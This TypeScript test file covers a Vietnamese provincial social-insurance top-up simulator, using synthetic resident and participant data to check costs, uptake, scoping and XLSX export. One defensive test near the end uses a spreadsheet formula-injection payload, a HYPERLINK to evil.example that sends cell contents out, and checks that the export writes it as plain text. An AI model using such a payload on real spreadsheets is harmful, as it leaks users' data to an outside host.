/**
 * The provincial top-up simulator from imported data (rows as the importer leaves them in src_*):
 * starting counts by support group, the Hà Nội precedent, the uptake model, costs, targets, scope,
 * saved scenarios, comparison and the XLSX export.
 */
import crypto from 'node:crypto';
import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import type { FastifyInstance } from 'fastify';
import ExcelJS from 'exceljs';
import { createTestDatabase, type TestDatabase } from '../helpers/db.ts';
import { testApp, addUser, login, type TestClient } from '../helpers/app.ts';

let database: TestDatabase;
let app: FastifyInstance;
let province: TestClient; // social_security: whole province, may save scenarios
let commune: TestClient; // commune 01840 only
const AS_OF = '2026-11-25';

async function batch(kind: string, period: string | null = null): Promise<number> {
  const r = await database.pool.query(
    `INSERT INTO import_batch (kind, period, file_name, content_sha256, file_size, imported_by_name) VALUES ($1, $2, $3, $4, 0, 'test') RETURNING id`,
    [kind, period, `${kind}.csv`, crypto.randomBytes(16).toString('hex')],
  );
  return Number(r.rows[0].id);
}

/** n residents with IDs prefix+seq, all alike. */
async function residents(b: number, prefix: string, n: number, o: { birth: string; sex?: string; ethnicity?: string; commune?: string; deceased?: boolean }) {
  await database.pool.query(
    `INSERT INTO src_dan_cu (batch_id, row_no, person_id, full_name, birth_date, sex, ethnicity, commune_code, deceased)
     SELECT $1, i, $2 || lpad(i::text, 5, '0'), 'Nguyễn Văn Thử', $3::date, $4, $5, $6, $7 FROM generate_series(1, $8) AS i`,
    [b, prefix, o.birth, o.sex ?? 'M', o.ethnicity ?? 'Kinh', o.commune ?? '01840', o.deceased ?? false, n],
  );
}
async function participants(b: number, prefix: string, n: number, o: { scheme?: string; group?: string | null; commune?: string; from?: string; to?: string | null }) {
  await database.pool.query(
    `INSERT INTO src_bhxh_nguoi (batch_id, row_no, person_id, person_id_valid, full_name, birth_date, sex, commune_code, scheme, unit_code,
       contribution_base, from_period, to_period, payment_mode, support_group, snapshot_period)
     SELECT $1, i, $2 || lpad(i::text, 5, '0'), true, 'Trần Thị Mẫu', '1985-01-01', 'F', $3, $4, CASE WHEN $4 = 'BB' THEN 'DV1' END,
       2000000, $5::date, $6::date, '1', $7, '2026-10-01' FROM generate_series(1, $8) AS i`,
    [b, prefix, o.commune ?? '01840', o.scheme ?? 'TN', o.from ?? '2025-01-01', o.to ?? null, o.group ?? null, n],
  );
}

beforeAll(async () => {
  database = await createTestDatabase();
  app = await testApp(database);
  await addUser(database, 'bhxh', 'social_security');
  await addUser(database, 'xa', 'commune', ['01840']);
  province = await login(app, 'bhxh');
  commune = await login(app, 'xa');

  // Participants, snapshot 10/2026.
  const n = await batch('bhxh-nguoi', '2026-10-01');
  await participants(n, '0192900', 10, { group: 'poor' });
  await participants(n, '0192901', 20, { group: 'near_poor' });
  await participants(n, '0192902', 30, { group: 'ethnic_minority' });
  await participants(n, '0192903', 40, { group: 'other' });
  await participants(n, '0192904', 5, { group: null }); // no group → other
  await participants(n, '0192905', 25, { group: 'other', commune: '01843' });
  await participants(n, '0192906', 50, { scheme: 'BB' }); // mandatory: not counted
  await participants(n, '0192907', 7, { group: 'poor', to: '2026-08-01' }); // stopped
  await participants(n, '0192908', 3, { group: 'poor', from: '2026-11-01' }); // not yet started in P

  // Population (as of 25/11/2026: men retire at 61y6m, women at 57y).
  const d = await batch('dan-cu');
  await residents(d, '0191000', 100, { birth: '1990-05-01' }); // poor (ho-ngheo 2026)
  await residents(d, '0191001', 50, { birth: '1990-05-01', sex: 'F' }); // near-poor
  await residents(d, '0191002', 80, { birth: '1980-01-01', ethnicity: 'Tày' }); // ethnic minority
  await residents(d, '0191003', 200, { birth: '2000-01-01' }); // other
  await residents(d, '0191004', 10, { birth: '1991-01-01' }); // poor only in the 2025 list → other
  await residents(d, '0191005', 10, { birth: '2011-11-25' }); // exactly 15 today → other
  await residents(d, '0191006', 10, { birth: '2011-12-25' }); // 14 years 11 months → excluded
  await residents(d, '0191007', 4, { birth: '1965-05-25' }); // man of 61y6m → excluded
  await residents(d, '0191008', 4, { birth: '1965-05-26' }); // man of 61y5m → other
  await residents(d, '0191009', 3, { birth: '1969-11-25', sex: 'F' }); // woman of 57y → excluded
  await residents(d, '0191010', 3, { birth: '1969-11-26', sex: 'F', ethnicity: 'Nùng' }); // woman of 56y11m → ethnic minority
  await residents(d, '0191011', 5, { birth: '1990-01-01', deceased: true }); // excluded
  await residents(d, '0191012', 6, { birth: '1990-01-01', commune: '01843' }); // other, another commune
  await residents(d, '0192903', 5, { birth: '1985-01-01' }); // active voluntary participants → excluded
  await residents(d, '0192907', 7, { birth: '1985-01-01' }); // stopped participants → potential (other)
  await residents(d, '0191013', 3, { birth: '1970-01-01' }); // pensioners → excluded
  await residents(d, '0191014', 2, { birth: '1990-01-01' }); // on unemployment benefit at as_of → excluded
  const hn = await batch('ho-ngheo');
  await database.pool.query(
    `INSERT INTO src_ho_ngheo (batch_id, row_no, person_id, full_name, commune_code, household_type, year)
     SELECT $1::bigint, i, '0191000' || lpad(i::text, 5, '0'), 'X', '01840', 'poor', 2026 FROM generate_series(1, 100) i
     UNION ALL SELECT $1::bigint, 100 + i, '0191001' || lpad(i::text, 5, '0'), 'X', '01840', 'near_poor', 2026 FROM generate_series(1, 50) i
     UNION ALL SELECT $1::bigint, 200 + i, '0191000' || lpad(i::text, 5, '0'), 'X', '01840', 'near_poor', 2026 FROM generate_series(1, 5) i
     UNION ALL SELECT $1::bigint, 300 + i, '0191004' || lpad(i::text, 5, '0'), 'X', '01840', 'poor', 2025 FROM generate_series(1, 10) i`,
    [hn],
  );
  const h = await batch('bhxh-huong');
  await database.pool.query(
    `INSERT INTO src_bhxh_huong (batch_id, row_no, person_id, full_name, birth_date, benefit_type, from_period)
     SELECT $1, i, '0191013' || lpad(i::text, 5, '0'), 'X', '1970-01-01', 'pension', '2025-01-01' FROM generate_series(1, 3) i`,
    [h],
  );
  const t = await batch('bhtn-huong');
  await database.pool.query(
    `INSERT INTO src_bhtn_huong (batch_id, row_no, person_id, full_name, decision_no, start_date, end_date, months, monthly_amount)
     SELECT $1, i, '0191014' || lpad(i::text, 5, '0'), 'X', 'QĐ' || i, '2026-09-01', '2026-11-25', 3, 3000000 FROM generate_series(1, 2) i`,
    [t],
  );
  const c = await batch('chi-tieu');
  await database.pool.query(
    `INSERT INTO src_chi_tieu (batch_id, row_no, year, commune_code, target_total, target_voluntary) VALUES
     ($1, 2, 2026, '19', 5000, 500), ($1, 3, 2027, '19', 5500, 600), ($1, 4, 2026, '01840', 3000, 300), ($1, 5, 2026, '01843', 1000, 150)`,
    [c],
  );
});
afterAll(async () => {
  await app.close();
  await database.destroy();
});

const scenario = (over: Record<string, unknown> = {}) => ({ name: 'Thử', topup: { poor: 0, near_poor: 0, ethnic_minority: 0, other: 0 }, ...over });
const simulate = async (client: TestClient, scenarios: unknown[]) => {
  const r = await client.post('/api/calc/simulate', { scenarios, as_of: AS_OF });
  expect(r.status, r.body).toBe(200);
  return r.json.results as any[];
};

describe('starting point from the imported data', () => {
  it('counts current voluntary participants by group and potential participants from the population', async () => {
    const [r] = await simulate(province, [scenario()]);
    expect(r.data.period).toBe('2026-10-01');
    expect(r.data.current).toEqual({ poor: 10, near_poor: 20, ethnic_minority: 30, other: 70 });
    expect(r.data.potential_source).toBe('population');
    // poor 100 (5 of them also listed near-poor: poor wins); near-poor 50; ethnic 80 + 3; other 200 + 10 + 10 + 4 + 6 + 7.
    expect(r.data.potential).toEqual({ poor: 100, near_poor: 50, ethnic_minority: 83, other: 237 });
    expect(r.data.notes.join(' ')).toContain('đếm tạm từ dữ liệu dân cư');
    expect(r.data.targets[2026]).toBe(500);
    expect(r.data.targets[2027]).toBe(600);
    expect(r.data.targets[2028]).toBeNull();
  });

  it('scopes counts and targets to a commune account', async () => {
    const [r] = await simulate(commune, [scenario()]);
    expect(r.data.current).toEqual({ poor: 10, near_poor: 20, ethnic_minority: 30, other: 45 });
    expect(r.data.potential.other).toBe(231);
    expect(r.data.targets[2026]).toBe(300);
  });
});

describe('the simulation', () => {
  it('reproduces the Hà Nội precedent: net monthly payment 0 for poor and near-poor at the minimum income', async () => {
    const list = (await province.get('/api/calc/scenarios')).json.scenarios;
    const hanoi = list.find((s: { name: string }) => s.name.startsWith('Tiền lệ Hà Nội'));
    expect(hanoi.params.topup).toEqual({ poor: 50, near_poor: 60, ethnic_minority: 10, other: 10 });
    const cmp = await province.get(`/api/calc/scenarios/compare?ids=${hanoi.id}&as_of=${AS_OF}`);
    expect(cmp.status).toBe(200);
    const r = cmp.json.results[0];
    expect(r.years.map((y: { year: number }) => y.year)).toEqual([2026, 2027, 2028, 2029, 2030]);
    for (const y of r.years) {
      expect(y.groups.poor.net_min_payment, String(y.year)).toBe(0);
      expect(y.groups.near_poor.net_min_payment, String(y.year)).toBe(0);
      expect(y.groups.other.net_min_payment).toBeGreaterThan(0);
    }
    expect(r.years[0].groups.poor).toMatchObject({ state_support: 165_000, local_support: 165_000, baseline_net_min_payment: 165_000 });
    // The rural poverty line of 2027 raises the base: 22 % × 2.200.000 = 484.000.
    expect(r.years[1].groups.poor).toMatchObject({ state_support: 242_000, local_support: 242_000 });
    expect(r.years[1].groups.near_poor).toMatchObject({ state_support: 193_600, local_support: 290_400 });
    expect(r.years[1].groups.other).toMatchObject({ state_support: 96_800, local_support: 48_400, net_min_payment: 338_800 });
    expect(r.rules.map((x: { key: string }) => x.key)).toEqual(expect.arrayContaining(['rural_poverty_line', 'voluntary.support_rate.poor', 'sim.uptake.elasticity']));
  });

  it('costs the support exactly when participation does not move', async () => {
    const [r] = await simulate(province, [scenario({ topup: { poor: 50, near_poor: 60, ethnic_minority: 10, other: 10 }, maternity_topup: 1_000_000, uptake: { base_rate: 0, retention: 1, birth_rate: 0.1 } })]);
    const [y26, y27] = r.years;
    expect(y26.participants).toBe(130);
    expect(y26.groups.poor.central_cost).toBe(10 * 165_000 * 12);
    expect(y26.groups.poor.provincial_cost).toBe(10 * 165_000 * 12);
    expect(y26.central_cost).toBe(12 * (10 * 165_000 + 20 * 132_000 + 30 * 99_000 + 70 * 66_000));
    expect(y26.provincial_cost).toBe(12 * (10 * 165_000 + 20 * 198_000 + 30 * 33_000 + 70 * 33_000));
    expect(y27.groups.poor.central_cost).toBe(10 * 242_000 * 12);
    expect(y26.births).toBe(13);
    expect(y26.maternity_central_cost).toBe(13 * 2_000_000);
    expect(y26.maternity_provincial_cost).toBe(13 * 1_000_000);
    expect(y26).toMatchObject({ target: 500, target_pct: 26, target_gap: -370 });
    expect(r.totals.central_cost).toBe(r.years.reduce((a: number, y: { central_cost: number }) => a + y.central_cost, 0));
    const [none] = await simulate(province, [scenario({ uptake: { base_rate: 0, retention: 1 } })]);
    expect(none.years.every((y: { provincial_cost: number }) => y.provincial_cost === 0)).toBe(true);
  });

  it('makes new enrolment respond to the net price with a constant elasticity (floored price ratio)', async () => {
    const uptake = { base_rate: 0.1, retention: 1, elasticity: -0.5, min_price_ratio: 0.2 };
    const [hn, half] = await simulate(province, [
      scenario({ topup: { poor: 50, near_poor: 60, ethnic_minority: 10, other: 10 }, uptake, year_to: 2026 }),
      scenario({ topup: { poor: 25, near_poor: 0, ethnic_minority: 0, other: 0 }, uptake, year_to: 2026 }),
    ]);
    const g = hn.years[0].groups;
    // Poor: the price falls to 0, floored at 0,2 → factor 0,2^−0,5 = √5.
    expect(g.poor.new_participants).toBe(Math.round(100 * 0.1 * Math.sqrt(5)));
    // 2026 is the dashboard's forecast year: its no-top-up stock is that forecast, the top-up adds its extra enrolment.
    const base = hn.data.baseline.groups.poor;
    expect(hn.data.baseline.year).toBe(2026);
    expect(g.poor.baseline_participants).toBe(base);
    expect(g.poor.participants).toBe(Math.round(base + 100 * 0.1 * Math.sqrt(5) - 100 * 0.1));
    // Other: 264.000 → 231.000.
    expect(g.other.price_factor).toBeCloseTo((231_000 / 264_000) ** -0.5, 3);
    expect(hn.years[0].extra_vs_baseline).toBe(hn.years[0].participants - hn.years[0].baseline_participants);
    expect(hn.years[0].extra_vs_baseline).toBeGreaterThan(0);
    // +25 % for the poor: 165.000 → 82.500, half the price → factor √2.
    expect(half.years[0].groups.poor.new_participants).toBe(Math.round(100 * 0.1 * Math.SQRT2));
    expect(half.years[0].groups.near_poor.new_participants).toBe(Math.round(50 * 0.1));
  });

  it('validates scenarios in Vietnamese and allows at most three side by side', async () => {
    const bad = await province.post('/api/calc/simulate', { scenarios: [scenario({ topup: { poor: -5 }, year_from: 2031 })] });
    expect(bad.status).toBe(400);
    const fields = bad.json.error.details.issues.map((i: { field: string }) => i.field);
    expect(fields).toEqual(expect.arrayContaining(['scenarios.0.topup.poor', 'scenarios.0.year_from']));
    const four = await province.post('/api/calc/simulate', { scenarios: [scenario(), scenario(), scenario(), scenario()] });
    expect(four.status).toBe(400);
    expect(four.json.error.message).toContain('tối đa 3');
  });
});

describe('potential participants from the findings', () => {
  it('uses TIEM_NANG_TU_NGUYEN findings once the cross-check has raised some', async () => {
    // Without open findings the potential comes from the population; with them, from the findings.
    const [before] = await simulate(province, [scenario()]);
    expect(before.data.potential_source).toBe('population');
    try {
      await database.pool.query(
        `INSERT INTO finding (code, subject_id, subject_kind, commune_code, period, legal_basis, first_run_id, updated_run_id, status, resolved_run_id)
         SELECT 'TIEM_NANG_TU_NGUYEN', '0191000' || lpad(i::text, 5, '0'), 'person', '01840', '2026-10-01'::date, 'Luật BHXH 41/2024 Điều 2', 1, 1, 'new', NULL::bigint FROM generate_series(1, 3) i
         UNION ALL SELECT 'TIEM_NANG_TU_NGUYEN', '0191003' || lpad(i::text, 5, '0'), 'person', CASE WHEN i = 4 THEN '01843' ELSE '01840' END, '2026-10-01', 'x', 1, 1, 'open', NULL FROM generate_series(1, 4) i
         UNION ALL SELECT 'TIEM_NANG_TU_NGUYEN', '0191002' || lpad(i::text, 5, '0'), 'person', '01840', '2026-10-01', 'x', 1, 1, 'dismissed', NULL FROM generate_series(1, 1) i
         UNION ALL SELECT 'TIEM_NANG_TU_NGUYEN', '0191002' || lpad(i::text, 5, '0'), 'person', '01840', '2026-10-01', 'x', 1, 1, 'resolved', 2 FROM generate_series(2, 2) i
         UNION ALL SELECT 'NLD_CHUA_THAM_GIA', '0191002' || lpad(i::text, 5, '0'), 'person', '01840', '2026-10-01', 'x', 1, 1, 'new', NULL FROM generate_series(3, 3) i`,
      );
      const [r] = await simulate(province, [scenario()]);
      expect(r.data.potential_source).toBe('findings');
      expect(r.data.potential).toEqual({ poor: 3, near_poor: 0, ethnic_minority: 0, other: 4 });
      const [c] = await simulate(commune, [scenario()]);
      expect(c.data.potential).toEqual({ poor: 3, near_poor: 0, ethnic_minority: 0, other: 3 });
    } finally {
      await database.pool.query(`DELETE FROM finding`); // the other tests of this file count from the population
    }
  });
});

describe('saved scenarios and export', () => {
  it('saves for the bodies that study the top-up, refuses others, compares and exports to XLSX', async () => {
    const auditedBefore = Number((await database.pool.query(`SELECT coalesce(max(id), 0) AS id FROM audit_log`)).rows[0].id);
    const denied = await commune.post('/api/calc/scenarios', scenario({ name: 'Xã thử' }));
    expect(denied.status).toBe(403);
    const created = await province.post('/api/calc/scenarios', scenario({ name: 'Tỉnh hỗ trợ 30 % hộ nghèo', topup: { poor: 30, near_poor: 20, ethnic_minority: 10, other: 0 } }));
    expect(created.status, created.body).toBe(200);
    const id = created.json.scenario.id;
    const updated = await province.send('PUT', `/api/calc/scenarios/${id}`, scenario({ name: 'Tỉnh hỗ trợ 40 % hộ nghèo', topup: { poor: 40, near_poor: 20, ethnic_minority: 10, other: 0 } }));
    expect(updated.json.scenario.params.topup.poor).toBe(40);
    const list = (await commune.get('/api/calc/scenarios')).json.scenarios;
    expect(list.map((s: { name: string }) => s.name)).toContain('Tỉnh hỗ trợ 40 % hộ nghèo');
    const ids = [list[0].id, list[1].id, id].join(',');
    const cmp = await province.get(`/api/calc/scenarios/compare?ids=${ids}&as_of=${AS_OF}`);
    expect(cmp.json.results).toHaveLength(3);
    expect((await province.get(`/api/calc/scenarios/compare?ids=${ids},99`)).status).toBe(400);

    const res = await app.inject({ method: 'GET', url: `/api/calc/scenarios/export?ids=${ids}&as_of=${AS_OF}`, headers: { cookie: (await cookieOf('bhxh')) } });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toContain('spreadsheetml');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    expect(wb.worksheets.map((w) => w.name)).toEqual(['So sánh', 'KB1', 'KB2', 'KB3', 'Giả định và căn cứ']);
    const sheet = wb.getWorksheet('So sánh')!;
    const rows = sheet.getSheetValues().filter(Boolean) as unknown[][];
    const mine = rows.find((r) => r[1] === 'Tỉnh hỗ trợ 40 % hộ nghèo' && r[2] === 2026)!;
    const expected = cmp.json.results[2].years[0];
    expect(mine[3]).toBe(expected.participants);
    expect(mine[9]).toBe(expected.provincial_cost);
    const assumptions = JSON.stringify(wb.getWorksheet('Giả định và căn cứ')!.getSheetValues());
    expect(assumptions).toContain('Chuẩn nghèo khu vực nông thôn');
    expect(assumptions).not.toContain('rural_poverty_line');
    expect(assumptions).toContain('đếm tạm từ dữ liệu dân cư');
    // This test's own audit rows (the other export test may have run before).
    const audits = await database.db.selectFrom('audit_log').select(['action', 'object_type', 'username'])
      .where('object_type', '=', 'calc_scenario').where('id', '>', auditedBefore).execute();
    expect(audits.filter((a) => a.action === 'export' && a.username === 'bhxh')).toHaveLength(1);
    expect(audits.filter((a) => a.action === 'change').length).toBe(2);
    expect((await province.send('DELETE', `/api/calc/scenarios/${id}`)).status).toBe(200);
    expect((await province.send('DELETE', `/api/calc/scenarios/${id}`)).status).toBe(404);
  });

  it('writes a formula-like scenario name as a plain string cell in the XLSX export, never as a formula', async () => {
    const name = '=HYPERLINK("http://evil.example/?x="&A1,"Kịch bản")';
    const created = await province.post('/api/calc/scenarios', scenario({ name }));
    expect(created.status, created.body).toBe(200);
    const id = created.json.scenario.id;
    const res = await app.inject({ method: 'GET', url: `/api/calc/scenarios/export?ids=${id}&as_of=${AS_OF}`, headers: { cookie: await cookieOf('bhxh') } });
    expect(res.statusCode).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const cells: ExcelJS.Cell[] = [];
    for (const ws of wb.worksheets) ws.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula)).toEqual([]);
    const named = cells.filter((c) => c.value === name);
    expect(named.length).toBeGreaterThan(0);
    for (const c of named) expect(c.type).toBe(ExcelJS.ValueType.String);
    expect((await province.send('DELETE', `/api/calc/scenarios/${id}`)).status).toBe(200);
  });
});

async function cookieOf(username: string) {
  const res = await app.inject({ method: 'POST', url: '/api/auth/login', payload: { username, password: 'MatKhau123' } });
  return res.cookies.map((c) => `${c.name}=${c.value}`).join('; ');
}
